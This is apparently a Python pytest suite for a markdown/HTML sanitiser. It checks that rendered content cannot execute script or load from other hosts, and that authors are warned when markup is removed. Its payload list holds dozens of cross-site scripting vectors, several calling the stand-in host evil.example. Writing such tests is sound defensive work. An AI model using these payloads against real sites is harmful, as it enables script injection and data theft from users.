"""Nothing in a body becomes script or loads from another host, and its author is told what was left out."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from onrecord.content.body_problems import MAX_REPORTED
from onrecord.content.sanitise import ALLOWED, EVERYWHERE
from onrecord.diagnostics import Severity
from tests.content.markup_samples import FIRST_LINE, codes, elements, render, rendered, with_elements

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><a href='javascript:alert(1)'>x</a></math>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<div style='width: expression(alert(1))'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https://e.org' onclick='alert(1)' onmouseover=alert(1)>x</a>",
    "<a href='https://e.org' target=_blank ping='https://evil.example'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x]( javascript:alert(1) 'title')",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '[x](https://e.org "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://e.org" onclick="alert(1))',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x" onerror="alert(1)](../assets/x.png)',
    "<javascript:alert(1)>",
    "<javascript://%0aalert(1)>",
    "# A {: onclick=alert(1) style=color:red }",
    "*a*{: onmouseover=alert(1) }",
    "[x](https://e.org){: href=javascript:alert(1) }",
    "``` {: onclick=alert(1) .x }\na\n```",
    "| a {: onclick=alert(1) } |\n|---|\n| b |",
    "a[^x]\n\n[^x]: <script>alert(1)</script>",
    '*[a]: "><script>alert(1)</script>\n\na',
    "[[a|<script>alert(1)</script>]]",
    "[[<img src=x onerror=alert(1)>]]",
    "[@a, <script>alert(1)</script>]",
    "`[[a|<script>alert(1)</script>]]`",
    "<a title='[[x]]' href='[[javascript:alert(1)]]'>x</a>",
    '<a title="[["onmouseover=alert(1)//]]">x</a>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<table background='https://evil.example/x'><tr><td>x</table>",
    "<video src='https://evil.example/x' poster='https://evil.example/y' onerror=alert(1)></video>",
    "<audio><source src='//evil.example/x'></audio>",
    "<img src='../assets/a.png' srcset='https://evil.example/x 2x'>",
    "<img src='\\\\evil.example\\x'>",
    "<img src='/\\evil.example/x'>",
    "<img src='ht\ntps://evil.example/x'>",
    "<img src='/&Tab;/evil.example/x'>",
    "<img src='https:evil.example/x'>",
    "![x](//evil.example/x)",
    "![x][r]\n\n[r]: https://evil.example/x",
    "<q cite='javascript:alert(1)'>x</q>",
    "\x02klzzwxh:0\x03 <script>alert(1)</script>",
    "<p id='x' name='y' class='z' data-x='<script>'>x</p>",
]

_ADDRESSES = frozenset({"href", "src", "poster", "cite", "action", "data", "xlink:href"})
_LOADING = frozenset({"src", "poster", "data", "background", "srcset"})


def assert_harmless(html: str) -> None:
    for tag, attributes in elements(html):
        assert tag in ALLOWED
        for name, value in attributes.items():
            assert name in ALLOWED[tag] | EVERYWHERE | {"rel"}
            assert not name.startswith("on")
            assert name not in ("style", "srcset", "name", "target")
            address = re.sub(r"[\x00-\x20]", "", value).replace("\\", "/").lower()
            if name in _ADDRESSES:
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", address)
                assert scheme is None or scheme[1] in ("http", "https", "mailto", "tel")
            if name in _LOADING:
                assert not re.match(r"//|[a-z][a-z0-9+.-]*:", address)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "text {} text", "> - {}", "<div>\n{}\n</div>", "| a |\n|---|\n| {} |"])
def test_no_payload_becomes_script_or_loads_from_elsewhere(payload: str, around: str) -> None:
    body, _ = render(around.replace("{}", payload))

    assert_harmless(with_elements(body))


@given(
    st.lists(
        st.sampled_from([*PAYLOADS, "'", '"', ">", "<", "\n\n", "`", "--", "[[", "]]", "</p>", "&lt;"]), max_size=6
    )
)
def test_no_mix_of_payloads_does(pieces: list[str]) -> None:
    body, _ = render("".join(pieces))

    assert_harmless(with_elements(body))


@pytest.mark.parametrize(
    "reference", ["&#xE000;&#xE004;&#xE001;", "&#57344&#57348&#57345", "&#x00000000000000e000;", "&#2;"]
)
def test_a_token_cannot_be_forged(reference: str) -> None:
    body, diagnostics = render(f"[[a]] {reference} x")

    assert diagnostics == []
    assert len(body.references) == 1
    assert "\ufffd" in body.html[1]


def test_entities_of_ordinary_characters_are_kept() -> None:
    assert rendered("&#233; &#x2013; &#150; `&#2;`").html == ("<p>é – – <code>&amp;#2;</code></p>",)


KEPT = [
    '<figure><img src="../assets/a.png" alt="a" width="3"><figcaption>b</figcaption></figure>',
    '<details open=""><summary>a</summary><p>b</p></details>',
    '<p>H<sub>2</sub>O <kbd>a</kbd> <mark>b</mark> <abbr title="c">d</abbr></p>',
    '<p><time datetime="2025-05-20">a</time> <bdi dir="rtl" lang="ar">ب</bdi></p>',
    "<p><ruby>漢<rp>(</rp><rt>かん</rt></ruby></p>",
    '<table><tbody><tr><th scope="row" colspan="2">a</th></tr></tbody></table>',
    '<ol start="3" reversed="" type="a"><li value="7">a</li></ol>',
    '<p id="a" class="b c" title="d" role="note" aria-label="e">f</p>',
    '<blockquote cite="https://example.org/a">b</blockquote>',
]


@pytest.mark.parametrize("html", KEPT)
def test_what_prose_needs_is_kept_without_a_word(html: str) -> None:
    body, diagnostics = render(html)

    assert diagnostics == []
    target = body.references[0].target if body.references else ""
    assert target.join(body.html) == html


def test_comments_are_gone() -> None:
    (html,) = rendered("a <!-- b [[c]] <script>d</script> --> e\n\n<!-- f -->").html

    assert html.strip() == "<p>a  e</p>"


@pytest.mark.parametrize(
    ("text", "named", "line"),
    [
        ("a\n\n<script>x</script>", "'script'", 3),
        ("`<iframe>` and\n<iframe src='x'></iframe>", "'iframe'", 2),
        ("a <b onclick=x>b</b>", "'onclick'", 1),
        ("# A {: style=color:red }", "'style'", 1),
        ("a\n\n[x](javascript:y)", "'javascript:'", 3),
        ("a\n[x][r]\n\n[r]: ftp://example.org", "'ftp:'", 4),
        ("![x](data:image/png;base64,aaaa)", "'data:'", 1),
        ("say <name> here", "'name'", 1),
    ],
)
def test_what_was_left_out_is_warned_of(text: str, named: str, line: int) -> None:
    _, diagnostics = render(text)

    (diagnostic,) = (found for found in diagnostics if found.code == "html-removed")
    assert diagnostic.severity == Severity.WARNING
    assert named in diagnostic.message
    assert diagnostic.line == FIRST_LINE + line - 1


@pytest.mark.parametrize(
    "text",
    [
        "`<script>` and `onclick=x`",
        "```\n<script>javascript:alert(1)</script>\n```",
        "a < b and c > d",
        "<https://example.org> <a@example.org>",
        "javascript: a word",
        "<div><p>unclosed",
        "<P Class=x>y</P>",
    ],
)
def test_nothing_is_warned_of_that_is_not_left_out(text: str) -> None:
    assert codes(text) == []


def test_many_removals_are_summed_up() -> None:
    assert codes("<x>a</x>\n\n" * (MAX_REPORTED + 5)) == ["html-removed"] * (MAX_REPORTED + 1)


REMOTE = [
    ("![a](https://example.org/a.png)", 1, 6),
    ("a\n\n![a](//example.org/a.png)", 3, 6),
    ("![a][r]\n\n[r]: http://example.org/a.png", 3, 6),
    ("a <img alt='' src='https://example.org/a.png'>", 1, 20),
]


@pytest.mark.parametrize("raw", [False, True])
@pytest.mark.parametrize(("text", "line", "column"), REMOTE)
def test_an_image_from_elsewhere_is_an_error_and_left_out(text: str, line: int, column: int, raw: bool) -> None:
    body, (diagnostic,) = render(text, raw=raw)

    assert diagnostic.code == "remote-asset"
    assert (diagnostic.line, diagnostic.column) == (FIRST_LINE + line - 1, column)
    assert "example.org" in diagnostic.message
    assert "example.org" not in "".join(body.html)


@pytest.mark.parametrize(
    "text",
    [
        "<script src='https://example.org/x.js'></script>",
        "<iframe src=//example.org/></iframe>",
        "<link rel=stylesheet href=https://example.org/x.css>",
        "<img src=../assets/a.png srcset='../assets/a.png 1x, https://example.org/b.png 2x'>",
        "<p style='background: url(https://example.org/x.png)'>a</p>",
        "<style>p { background: url(//example.org/x.png) }</style>",
        "<style>@import 'https://example.org/x.css';</style>",
        "<video poster='https://example.org/x.png'></video>",
        "<svg><image href='https://example.org/x.png'/></svg>",
    ],
)
def test_raw_html_may_not_load_from_elsewhere_either(text: str) -> None:
    body, (diagnostic,) = render(text, raw=True)

    assert diagnostic.code == "remote-asset"
    assert "example.org" not in "".join(body.html)


@pytest.mark.parametrize(
    "html",
    [
        "<script>if (a < b && c > d) { x('<p>[[a]]</p>') }</script>",
        "<style>p > a { color: red }</style>",
        '<p style="color: red" onclick="x()" data-a="1">b</p>',
        '<my-card a="b">c</my-card>',
        '<a href="https://example.org" target="_blank">a</a>',
        "<br>",
    ],
)
def test_raw_html_stays_as_it_is(html: str) -> None:
    body, diagnostics = render(f"<div>{html}</div>", raw=True)

    assert diagnostics == []
    assert body.html == (f"<div>{html}</div>",)


def test_references_work_in_raw_html() -> None:
    body = rendered(
        "<section onclick='x()'>[[a]] <code>[[b]]</code> <a href=c.md>d</a><!-- [[e]] --></section>", raw=True
    )

    assert [(reference.kind, reference.target) for reference in body.references] == [("link", "a"), ("path", "c.md")]
    assert "[[b]]" in body.html[1]
    assert "[[e]]" not in "".join(body.html)
